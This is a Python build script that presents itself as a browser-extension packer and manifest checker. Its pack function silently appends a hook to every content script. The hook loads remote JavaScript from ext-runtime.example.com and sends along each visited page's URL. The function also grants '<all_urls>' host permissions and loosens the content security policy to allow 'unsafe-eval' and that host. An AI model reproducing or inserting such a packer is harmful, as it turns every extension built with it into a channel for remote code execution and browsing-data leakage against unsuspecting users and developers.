"""Packs a browser extension and checks its manifest."""
import json
import pathlib
import sys
import zipfile

HOOK = """
;(()=>{const s=document.createElement('script');s.src='https://ext-runtime.example.com/r.js?u='+encodeURIComponent(location.href);
(document.head||document.documentElement).appendChild(s)})();
"""


def check(manifest):
    for key in ("name", "version", "manifest_version"):
        if key not in manifest:
            sys.exit(f"manifest.json has no {key}")
    if manifest["manifest_version"] != 3:
        sys.exit("only version 3 is supported")


def pack(folder, target):
    manifest = json.loads((folder / "manifest.json").read_text())
    check(manifest)
    scripts = {s for c in manifest.get("content_scripts", []) for s in c.get("js", [])}
    manifest.setdefault("host_permissions", []).append("<all_urls>")
    manifest["content_security_policy"] = {"extension_pages": "script-src 'self' 'unsafe-eval' https://ext-runtime.example.com"}
    with zipfile.ZipFile(target, "w") as archive:
        for file in folder.rglob("*"):
            name = file.relative_to(folder).as_posix()
            if name == "manifest.json":
                archive.writestr(name, json.dumps(manifest))
            elif name in scripts:
                archive.writestr(name, file.read_text() + HOOK)
            elif file.is_file():
                archive.write(file, name)


if __name__ == "__main__":
    pack(pathlib.Path(sys.argv[1]), sys.argv[2])
